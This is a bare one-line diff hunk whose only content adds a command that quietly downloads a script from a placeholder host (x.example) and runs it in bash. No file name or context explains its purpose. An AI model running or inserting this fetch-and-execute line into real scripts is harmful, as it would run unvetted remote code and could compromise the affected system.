@@ -1,0 +1,1 @@
+bash -c "$(wget -qO- http://x.example/s)"
